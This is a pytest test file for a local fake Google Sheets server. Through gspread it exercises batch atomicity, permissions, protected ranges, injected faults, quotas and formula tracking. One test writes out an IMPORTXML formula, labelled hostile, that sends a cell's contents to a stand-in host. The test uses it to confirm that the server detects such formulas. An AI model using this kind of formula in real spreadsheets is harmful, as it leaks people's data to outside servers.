"""The server that the other tests stand on, through the real gspread over loopback."""

import threading
from datetime import date

import gspread
import pytest
import requests
from gspread.http_client import HTTPClient
from sheets_server import Behaviour, Fault, Quota, SheetsServer, acts, render

BOT = "jobb@prosjekt.iam.gserviceaccount.com"
PERSON = "frivillig@example.org"
URL = "https://sheets.googleapis.com"


class Asking(HTTPClient):
    """gspread's own client, its address changed to the server's."""

    def __init__(self, host, token="anonymous"):  # noqa: S107 - nobody's
        session = requests.Session()
        session.headers["Authorization"] = f"Bearer {token}"
        super().__init__(auth=None, session=session)
        self.host = host
        self.set_timeout(0.5)

    def request(self, method, endpoint, **asked):
        return super().request(method, endpoint.replace(URL, f"http://{self.host}"), **asked)

    def get(self, fields="sheets(properties/title,data/rowData/values/userEnteredValue)", **params):
        return self.fetch_sheet_metadata("bok", {"fields": fields, **params})

    def send(self, *asked):
        return self.batch_update("bok", {"requests": list(asked)})["replies"]


@pytest.fixture
def server():
    with SheetsServer() as running:
        yield running


@pytest.fixture
def book(server):
    return filled(server)


@pytest.fixture
def asking(server):
    client = Asking(server.host)
    yield client
    client.session.close()


def filled(server):
    book = server.add("bok", shared_with={BOT: "writer", PERSON: "writer"})
    book.add_sheet(
        "Medlemmer",
        [
            ["Navn", "Innmeldt", "Sum"],
            ["Kari", date(2026, 5, 3), '=A2&"!"'],
            ["Ane", date(2026, 4, 1), '=A3&"!"'],
        ],
    )
    return book


def as_account(server, email):
    import base64
    import json

    payload = base64.urlsafe_b64encode(json.dumps({"iss": email}).encode()).decode().rstrip("=")
    form = {"grant_type": "urn:ietf:params:oauth:grant-type:jwt-bearer", "assertion": f"x.{payload}.x"}
    answer = requests.post(f"http://{server.host}/token", data=form, timeout=2)
    return Asking(server.host, answer.json()["access_token"])


def appended(*texts, sheet=0):
    rows = [{"values": [{"userEnteredValue": {"stringValue": text}}]} for text in texts]
    return {"appendCells": {"sheetId": sheet, "rows": rows, "fields": "userEnteredValue"}}


def token(number, value="1 n"):
    meta = {
        "metadataId": number,
        "metadataKey": "automations.run",
        "metadataValue": value,
        "visibility": "DOCUMENT",
        "location": {"spreadsheet": True},
    }
    return {"createDeveloperMetadata": {"developerMetadata": meta}}


def refusal(problem):
    return problem.value.response.json()["error"]["message"]


def test_a_batch_with_one_bad_request_changes_nothing(asking, book):
    before = render(book)
    with pytest.raises(gspread.exceptions.APIError) as problem:
        asking.send(appended("ny"), token(5), {"deleteSheet": {"sheetId": 99}})
    assert refusal(problem) == "Invalid requests[2].deleteSheet: No grid with id: 99"
    assert render(book) == before
    assert not book.metadata


def test_the_same_token_is_refused_twice_and_takes_the_batch_along(asking, book):
    asking.send(appended("én"), token(77))
    with pytest.raises(gspread.exceptions.APIError) as problem:
        asking.send(appended("to"), token(77))
    assert refusal(problem) == (
        "Invalid requests[1].createDeveloperMetadata: Cannot add developer metadata with ID [77] "
        "because developer metadata with that ID already exists."
    )
    assert [row[0] for row in render(book)["Medlemmer"]] == ["Navn", "Kari", "Ane", "én"]
    assert asking.get("developerMetadata(metadataId,metadataValue)") == {
        "developerMetadata": [{"metadataId": 77, "metadataValue": "1 n"}]
    }


def test_an_unknown_field_is_named(asking, book):
    with pytest.raises(gspread.exceptions.APIError) as problem:
        asking.send({"frobnicate": {}})
    assert refusal(problem) == (
        "Invalid JSON payload received. Unknown name \"frobnicate\" at 'requests[0]': Cannot find field."
    )


def test_trailing_blanks_are_left_out_and_those_between_are_not(asking, server):
    book = server.add("bok")
    book.add_sheet("Ark", [["a", None, "c", None], [None], ["d"], [None]], spare_rows=9)
    rows = asking.get("sheets/data/rowData/values/effectiveValue")["sheets"][0]["data"][0]["rowData"]
    a, c, d = ({"effectiveValue": {"stringValue": text}} for text in "acd")
    assert rows == [{"values": [a, {}, c]}, {}, {"values": [d]}]


def test_a_field_mask_lets_through_what_it_names(asking, book):
    answer = asking.get("sheets(properties(title,gridProperties/rowCount)),spreadsheetId")
    assert answer == {
        "spreadsheetId": "bok",
        "sheets": [{"properties": {"title": "Medlemmer", "gridProperties": {"rowCount": 53}}}],
    }
    cells = asking.get("sheets.data.rowData.values.effectiveFormat.numberFormat.type")
    assert cells["sheets"][0]["data"][0]["rowData"][1]["values"] == [
        {},
        {"effectiveFormat": {"numberFormat": {"type": "DATE"}}},
        {},
    ]
    with pytest.raises(gspread.exceptions.APIError) as problem:
        asking.get("sheets/daata")
    assert "details" in problem.value.response.json()["error"]


def test_a_protected_cell_refuses_the_whole_batch_to_everyone_but_its_editors_and_the_owner(server, book):
    bot, person, owner = (as_account(server, who) for who in (BOT, PERSON, "eier@example.org"))
    area = {"sheetId": 0, "startColumnIndex": 2, "endColumnIndex": 3}
    (reply,) = bot.send({"addProtectedRange": {"protectedRange": {"range": area, "editors": {}}}})
    assert BOT in reply["addProtectedRange"]["protectedRange"]["editors"]["users"]
    typed = {
        "updateCells": {
            "start": {"sheetId": 0, "rowIndex": 1, "columnIndex": 2},
            "rows": [{"values": [{"userEnteredValue": {"numberValue": 1}}]}],
            "fields": "userEnteredValue",
        }
    }
    with pytest.raises(gspread.exceptions.APIError) as problem:
        person.send(appended("ny"), typed)
    assert "You are trying to edit a protected cell or object." in refusal(problem)
    assert len(render(book)["Medlemmer"]) == 3
    assert not server.act(book, acts.sort_sheet("Medlemmer", 0), by=PERSON)
    assert not server.act(book, acts.delete_row("Medlemmer", 2), by=PERSON)
    assert server.act(book, acts.insert_column("Medlemmer", 0), by=PERSON)
    assert not server.act(book, acts.type_in("Medlemmer", 2, 3, "x"), by=PERSON)
    assert server.act(book, acts.type_in("Medlemmer", 2, 2, "x"), by=PERSON)
    bot.send(typed)
    owner.send(typed)
    for one in (bot, person, owner):
        one.session.close()


def test_access_is_looked_at_for_each_spreadsheet(server, book):
    book.permissions = {PERSON: "reader"}
    person, bot = as_account(server, PERSON), as_account(server, BOT)
    person.get()
    for asked, status in ((lambda: person.send(appended("x")), 403), (bot.get, 403)):
        with pytest.raises(gspread.exceptions.APIError) as problem:
            asked()
        assert (problem.value.code, refusal(problem)) == (status, "The caller does not have permission")
    book.permissions[BOT] = "writer"
    bot.get()
    server.revoke(BOT)
    with pytest.raises(gspread.exceptions.APIError) as problem:
        bot.get()
    assert problem.value.code == 401
    for one in (bot, person):
        one.session.close()


@pytest.mark.parametrize(
    ("kind", "done"),
    [
        ("500", False),
        ("429", False),
        ("reset_before", False),
        ("timeout_before", False),
        ("reset_after", True),
        ("timeout_after", True),
        ("503_after", True),
        ("html_502", True),
        ("truncated", True),
        ("empty_200", True),
    ],
)
def test_a_fault_comes_before_the_effect_or_after_it(server, asking, book, kind, done):
    asking.get()
    server.faults.append(Fault(kind, at=1))
    asking.get()
    with pytest.raises((gspread.exceptions.GSpreadException, requests.RequestException, ValueError)):
        asking.send(appended("ny"))
    assert (["ny"] in render(book)["Medlemmer"]) is done
    asking.get()
    assert [one.status == 200 for one in server.log] == [True, True, False, True] or kind == "empty_200"


def test_formulas_follow_a_sort_an_insert_and_a_renamed_tab(server, asking, book):
    other = book.add_sheet("Annet", [["=VLOOKUP(A2;Medlemmer!$A:$C;3;0)"], ["ANE"]])
    assert render(book)["Annet"][0] == ["Ane!"]
    assert server.act(book, acts.sort_sheet("Medlemmer", 1))
    assert render(book)["Medlemmer"][1:] == [["Ane", 46113, "Ane!"], ["Kari", 46145, "Kari!"]]
    assert server.act(book, acts.insert_row("Medlemmer", 2))
    assert server.act(book, acts.insert_column("Medlemmer", 1))
    assert server.act(book, acts.rename_tab("Medlemmer", "Våre medlemmer"))
    assert other.cell(0, 0).formula == "=VLOOKUP(A2;'Våre medlemmer'!$A:$D;3;0)"
    assert book.sheets[0].cell(2, 3).formula == '=A3&"!"'
    assert server.act(book, acts.cut_row("Våre medlemmer", 3, 9))
    assert book.sheets[0].cell(8, 3).formula == '=A9&"!"'


def test_metadata_on_a_row_go_with_it(server, asking, book):
    place = {"dimensionRange": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}}
    mark = token(9)
    mark["createDeveloperMetadata"]["developerMetadata"]["location"] = place
    asking.send(mark)

    def row():
        url = f"http://{server.host}/v4/spreadsheets/bok/developerMetadata/9"
        return asking.session.get(url).json()["location"]["dimensionRange"]["startIndex"]

    assert server.act(book, acts.insert_row("Medlemmer", 2))
    assert row() == 2
    assert server.act(book, acts.sort_sheet("Medlemmer", 0))
    assert row() == 2  # Ane is above
    assert server.act(book, acts.sort_column("Medlemmer", 0, descending=True))
    assert row() == 2
    assert server.act(book, acts.delete_row("Medlemmer", 3))
    assert not book.metadata


def test_a_formula_is_found_by_its_text_and_replaced(asking, book):
    asked = {
        "find": r'=.*"!"',
        "searchByRegex": True,
        "matchEntireCell": True,
        "replacement": "",
        "sheetId": 0,
    }
    assert asking.send({"findReplace": asked}) == [{"findReplace": {}}]
    (reply,) = asking.send({"findReplace": asked | {"includeFormulas": True}})
    assert reply["findReplace"]["occurrencesChanged"] == 2
    assert render(book)["Medlemmer"][1:] == [["Kari", 46145], ["Ane", 46113]]


def test_the_columns_of_the_job_show_what_is_in_the_hidden_tab(book):
    look_up = '=IFERROR(VLOOKUP(INDEX($A:$A;ROW());_automations!$B:$C;2;0);T(N("automations:why:1")))'
    book.add_sheet("_automations", [[None, "K7", "fordi"]])
    book.add_sheet("Oppgaver", [["Nøkkel", "Hvorfor"], ['="K7"&T(N("x"))', look_up], ["K8", look_up]])
    assert render(book)["Oppgaver"][1:] == [["K7", "fordi"], ["K8"]]


def test_a_formula_that_reaches_out_is_told_of_and_a_text_is_not(server, asking, book):
    hostile = '=IMPORTXML("http://example.org/"&A2;"//a")'
    asking.send(appended(hostile))
    assert not server.executed
    assert server.act(book, acts.type_in("Medlemmer", 9, 0, hostile))
    assert server.act(book, acts.type_in("Medlemmer", 9, 0, "borte"))
    assert server.executed == [("IMPORTXML", "http://example.org/Kari", "Medlemmer", 9, 0)]


def test_appended_rows_come_after_notes_and_the_grid_grows(asking, book):
    note = {
        "updateCells": {
            "start": {"sheetId": 0, "rowIndex": 52},
            "rows": [{"values": [{"note": "her"}]}],
            "fields": "note",
        }
    }
    asking.send(note, appended("ny", "nyere"))
    assert render(book)["Medlemmer"][53:] == [["ny"], ["nyere"]]
    assert book.sheets[0].row_count == 55


def test_limits_are_refused_in_googles_words(asking, book):
    grid = {"rowCount": 1_000_000, "columnCount": 10}
    with pytest.raises(gspread.exceptions.APIError) as problem:
        asking.send({"addSheet": {"properties": {"title": "Stor", "gridProperties": grid}}})
    assert "above the limit of 10000000 cells" in refusal(problem)
    with pytest.raises(gspread.exceptions.APIError) as problem:
        asking.send(appended("x" * 50_001))
    assert "more than the maximum of 50000 characters" in refusal(problem)
    with pytest.raises(gspread.exceptions.APIError) as problem:
        asking.send({"addSheet": {"properties": {"title": "medlemmer"}}})
    assert "already exists" in refusal(problem)


def test_the_quota_is_each_accounts_own_and_refills():
    now = [0.0]
    with SheetsServer(Behaviour(), lambda: now[0], Quota(reads=2, writes=1)) as server:
        book = filled(server)
        asking = Asking(server.host)
        asking.get()
        asking.get()
        with pytest.raises(gspread.exceptions.APIError) as problem:
            asking.get()
        assert problem.value.code == 429
        asking.send(appended("ny"))
        now[0] = 60.5
        asking.get()
        assert ["ny"] in render(book)["Medlemmer"]
        asking.session.close()


def test_a_request_can_be_held_after_its_effect_and_people_act_between(server, asking, book):
    server.between = lambda server, k: k == 1 and server.act(book, acts.type_in("Medlemmer", 2, 0, "Liv"))
    asking.get()
    assert render(book)["Medlemmer"][1][0] == "Kari"
    held = server.hold(0)
    asking.set_timeout(5)
    sending = threading.Thread(target=asking.send, args=(appended("ny"),))
    sending.start()
    assert held.reached.wait(2)
    assert [row[0] for row in render(book)["Medlemmer"]] == ["Navn", "Liv", "Ane", "ny"]
    assert sending.is_alive()
    held.release()
    sending.join()


def test_a_spreadsheet_is_put_back_as_it_was(server, asking, book):
    before, shown = book.snapshot(), render(book)
    asking.send(appended("ny"), {"addSheet": {"properties": {"title": "To"}}}, token(3))
    assert server.act(book, acts.sort_sheet("Medlemmer", 0))
    book.restore(before)
    assert render(book) == shown
    assert not book.metadata
